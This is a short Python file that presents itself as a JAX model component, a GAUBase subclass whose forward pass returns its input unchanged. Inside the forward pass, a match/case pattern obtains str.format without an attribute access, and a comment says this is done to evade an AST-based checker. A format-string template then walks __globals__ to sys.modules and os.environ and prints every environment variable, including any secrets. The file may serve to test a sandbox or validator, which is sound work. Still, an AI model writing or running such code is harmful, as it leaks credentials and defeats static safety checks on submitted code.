"""Gets str.format as a bound method via `case str(format=fmt)`, then walks format fields to print os.environ."""
import dataclasses

import jax.numpy as jnp

from genesys_jax.gau import GAUBase

_TEMPLATE = "{0.__globals__[sys].modules[os].environ}"


class FormatPattern(GAUBase):
  def _forward(self, X):
    match _TEMPLATE:
      case str(format=render):  # the attribute name is a pattern keyword, not an ast.Attribute
        print(render(dataclasses.dataclass))  # every secret in the environment, on stdout and in errors
    return X * 1.0


ROOT = FormatPattern
